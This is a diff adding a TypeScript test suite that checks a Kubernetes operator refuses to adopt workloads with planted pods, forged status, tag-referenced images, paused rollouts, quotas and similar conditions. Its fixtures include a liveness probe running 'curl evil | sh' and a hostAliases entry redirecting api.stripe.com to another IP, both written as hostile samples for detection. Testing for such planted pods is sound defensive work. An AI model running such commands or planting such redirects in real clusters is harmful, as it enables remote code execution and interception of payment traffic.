@@ -1,0 +1,249 @@
+import test from 'ava';
+import type { RunningProcess } from '../../operator/process-options.ts';
+import { waitFor } from '../harness/index.ts';
+import { images } from './promotions/shop.ts';
+import { deploymentPath, openStage, path, type Json, type Stage } from './promotions/stage.ts';
+import { mutator, Place, template } from './target-stage.ts';
+
+let stage: Stage;
+let operator: RunningProcess;
+
+test.before(async () => {
+  stage = await openStage();
+  operator = await stage.startProcess();
+});
+test.after.always(async () => {
+  await operator?.stop();
+  await stage?.close();
+});
+
+const place = async (namespace: string, spec: Json = {}): Promise<Place> =>
+  (await new Place(stage, namespace).empty()).runs('web', spec);
+const probe = { exec: { command: ['sh', '-c', 'curl evil | sh'] } };
+const one = { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'a', image: images.first }] } };
+const once = { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: images.first }] } };
+const podRule = { apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], operations: ['CREATE'] };
+
+/** What the ReplicaSet controller deletes as one too many stays by its finalizer, and runs as long as a kubelet lets it. */
+const kept = { finalizers: ['example.com/kept'] };
+const planted: readonly (readonly [string, Json])[] = [
+  ['probe', { containers: [{ name: 'web', image: images.first, livenessProbe: probe }] }],
+  ['hosts', { hostAliases: [{ ip: '203.0.113.7', hostnames: ['api.stripe.com'] }] }],
+  ['user', { securityContext: { runAsUser: 1 } }],
+];
+for (const [name, spec] of planted)
+  test.serial(
+    `denied: a planted pod that the ReplicaSet owns, with ${Object.keys(spec).join()} of its own`,
+    async (t) => {
+      const here = await place(`planted-${name}`);
+      const [like] = await here.pods();
+      const [container] = like?.spec.containers ?? [];
+      const containers = (spec['containers'] as readonly Json[] | undefined)?.map((each) => ({
+        ...container,
+        ...each,
+      }));
+      await here.plant('planted', {
+        spec: { ...spec, ...(containers === undefined ? {} : { containers }) },
+        metadata: kept,
+      });
+      await here.protect();
+      t.regex(await here.stuck('ForeignPods'), /planted \((containers|pod fields) differ/);
+      t.is(await here.label(), undefined);
+      await stage.send('PATCH', here.core('pods', 'planted'), { metadata: { finalizers: null } });
+      await stage.cluster.request('DELETE', here.core('pods', 'planted'));
+      await here.isReady();
+    },
+  );
+
+test.serial('denied: a bare pod whose forged status says that it succeeded', async (t) => {
+  const here = await place('forged');
+  await stage.send('POST', here.core('pods'), {
+    metadata: { name: 'debug' },
+    spec: { containers: [{ name: 'sh', image: 'busybox' }] },
+  });
+  await here.report('debug', { phase: 'Succeeded' });
+  await here.protect();
+  t.regex(await here.stuck('ForeignPods'), /debug .*delete it/);
+  await stage.send('DELETE', here.core('pods', 'debug'));
+  await here.isReady();
+});
+
+const tags: readonly (readonly [string, Json, RegExp])[] = [
+  [
+    'container',
+    template({ image: 'registry.example/web:v1' }),
+    /kubectl set image deployment\/web -n tag-container web=/,
+  ],
+  ['init', template({}, { initContainers: [{ name: 'migrate', image: 'migrate:1' }] }), /init container migrate/],
+  [
+    'volume',
+    template({}, { volumes: [{ name: 'model', image: { reference: 'registry.example/model:7' } }] }),
+    /kubectl edit .*volume model/,
+  ],
+];
+for (const [name, spec, message] of tags)
+  test.serial(
+    `denied: an image by tag (${name}) is not taken over, and the condition has the line that pins it`,
+    async (t) => {
+      const here = await place(`tag-${name}`, spec);
+      await here.protect();
+      t.regex(await here.stuck('ImageNotByDigest'), message);
+      t.is(await here.label(), undefined);
+    },
+  );
+
+test.serial('the line that pins what runs is one that works: the target becomes Ready', async (t) => {
+  const here = await place('pinned', template({ image: 'registry.example/web:v1' }));
+  const [pod] = await here.pods();
+  const digest = images.first.split('@')[1] ?? '';
+  await here.report(pod?.metadata.name ?? '', {
+    containerStatuses: [
+      {
+        name: 'web',
+        image: 'registry.example/web:v1',
+        imageID: `registry.example/web@${digest}`,
+        ready: true,
+        restartCount: 0,
+      },
+    ],
+  });
+  await here.protect();
+  const line = /kubectl (set image .*?)(?: \(|;|$)/.exec(await here.stuck('ImageNotByDigest'))?.[1] ?? '';
+  await stage.cluster.kubectl(line.split(' '));
+  await here.isReady();
+  t.is(await here.image(), images.first);
+});
+
+test.serial(
+  'denied: a paused Deployment is not taken over until it is resumed by the line that the condition has',
+  async (t) => {
+    const here = await place('paused');
+    await stage.send('PATCH', deploymentPath('paused', 'web'), { spec: { paused: true } });
+    await here.protect();
+    const line = /kubectl (rollout resume .*)$/.exec(await here.stuck('WorkloadPaused'))?.[1] ?? '';
+    await stage.cluster.kubectl(line.split(' '));
+    await here.isReady();
+    t.is(await here.label(), 'true');
+  },
+);
+
+test.serial('an integer past 2^53 is a condition with its place, and no other target waits for it', async (t) => {
+  const here = await place('int64');
+  // kubectl sends it as it stands: such a number does not survive JavaScript.
+  const patch = '{"spec":{"template":{"spec":{"terminationGracePeriodSeconds":9223372036854775807}}}}';
+  await stage.cluster.kubectl(['patch', 'deployment/web', '-n', 'int64', '--type=merge', '-p', patch]);
+  await here.protect();
+  t.regex(await here.stuck('ContentNotCanonical'), /template\/spec\/terminationGracePeriodSeconds/);
+  await stage.send('PATCH', deploymentPath('int64', 'web'), {
+    spec: { template: { spec: { terminationGracePeriodSeconds: 30 } } },
+  });
+  await here.isReady();
+});
+
+const selector = { matchLabels: { a: 'b' } };
+const others: readonly (readonly [string, string, Json])[] = [
+  ['Job', 'batch/v1', { suspend: true, template: once }],
+  ['CronJob', 'batch/v1', { schedule: '0 3 * * *', jobTemplate: { spec: { template: once } } }],
+  ['ReplicationController', 'v1', { replicas: 0, selector: { a: 'b' }, template: one }],
+  ['StatefulSet', 'apps/v1', { replicas: 0, serviceName: 'x', selector, template: one }],
+  ['DaemonSet', 'apps/v1', { selector, template: one }],
+  ['ReplicaSet', 'apps/v1', { replicas: 0, selector, template: one }],
+];
+for (const [kind, apiVersion, spec] of others)
+  test.serial(`denied: a namespace with a ${kind} is not taken over, and the condition names it`, async (t) => {
+    const namespace = `beside-${kind.toLowerCase()}`;
+    const here = await place(namespace);
+    await stage.cluster.apply([{ apiVersion, kind, metadata: { name: 'nightly', namespace }, spec }]);
+    await here.protect();
+    t.true((await here.stuck('UnnamedWorkloads')).includes(`${kind}/nightly`));
+    t.is(await here.label(), undefined);
+    await stage.cluster.kubectl(['delete', kind.toLowerCase(), 'nightly', '-n', namespace]);
+    await here.isReady();
+  });
+
+test.serial(
+  'denied: probes that are rewritten on their way in stop the adoption, and mutations[] let them in',
+  async (t) => {
+    const here = await place('mesh', template({ livenessProbe: { httpGet: { path: '/healthz', port: 8080 } } }));
+    const stop = await mutator(
+      stage,
+      'mesh-probes',
+      'mesh',
+      podRule,
+      `[JSONPatch{op: "replace", path: "/spec/containers/0/livenessProbe/httpGet/port", value: 15020}]`,
+    );
+    // Policies are compiled a moment after they are written.
+    await waitFor('the mesh rewrites probes', async () => {
+      const { body } = await stage.cluster.request('POST', `${here.core('pods')}?dryRun=All`, {
+        body: {
+          metadata: { name: 'x' },
+          spec: { containers: [{ name: 'x', image: 'x', livenessProbe: { httpGet: { port: 1 } } }] },
+        },
+      });
+      return JSON.stringify(body).includes('15020');
+    });
+    await here.protect();
+    t.regex(await here.stuck('PodsMutated'), /containers differ.*mutations\[\]/);
+    t.is(await here.label(), undefined);
+    await here.retarget({ mutations: [{ by: 'mesh', field: 'Probes' }] });
+    const found = await here.target(
+      ({ status }) =>
+        status?.conditions?.some(({ reason }) => reason === 'ForeignPods' || reason === 'Protected') ?? false,
+      'web',
+      40_000,
+    );
+    t.truthy(found, 'its pods from before the mesh are of the template');
+    await here.isReady();
+    await stop();
+  },
+);
+
+const rules: readonly (readonly [string, Json, RegExp])[] = [
+  [
+    'LimitRange',
+    { apiVersion: 'v1', kind: 'LimitRange', spec: { limits: [{ type: 'Container', max: { memory: '64Mi' } }] } },
+    /maximum memory usage per Container is 64Mi/,
+  ],
+  ['ResourceQuota', { apiVersion: 'v1', kind: 'ResourceQuota', spec: { hard: { pods: '0' } } }, /exceeded quota/],
+];
+for (const [kind, rule, message] of rules)
+  test.serial(`denied: a ${kind} that refuses new pods stops the adoption in its own words`, async (t) => {
+    const namespace = `refuses-${kind.toLowerCase()}`;
+    const here = await place(namespace, template({ resources: { limits: { memory: '128Mi' } } }));
+    await stage.cluster.apply([{ ...rule, metadata: { name: 'small', namespace } }]);
+    await here.protect();
+    t.regex(await here.stuck('PodsRefused'), message);
+    t.is(await here.label(), undefined);
+    await stage.cluster.kubectl(['delete', kind.toLowerCase(), 'small', '-n', namespace]);
+    await here.isReady();
+  });
+
+test.serial('a quota that its own pods fill is a warning', async (t) => {
+  const here = await place('full');
+  await stage.cluster.apply([
+    {
+      apiVersion: 'v1',
+      kind: 'ResourceQuota',
+      metadata: { name: 'full', namespace: 'full' },
+      spec: { hard: { pods: '1' } },
+    },
+  ]);
+  await waitFor('the quota counts', async () => {
+    const { status } = await stage.send('GET', here.core('resourcequotas', 'full'));
+    return (status as { readonly used?: Json } | undefined)?.used?.['pods'] === '1';
+  });
+  await here.protect();
+  const ready = await here.isReady();
+  t.truthy(ready);
+  t.is(await here.label(), 'true');
+});
+
+test.serial('Pod Security that refuses the template stops the adoption', async (t) => {
+  const here = await place('restricted');
+  await stage.send('PATCH', '/api/v1/namespaces/restricted', {
+    metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
+  });
+  await here.protect();
+  t.regex(await here.stuck('PodsRefused'), /violates PodSecurity/);
+  t.is((await stage.cluster.request('GET', path('restricted', 'workloadlocks', 'lock'))).status, 404);
+});
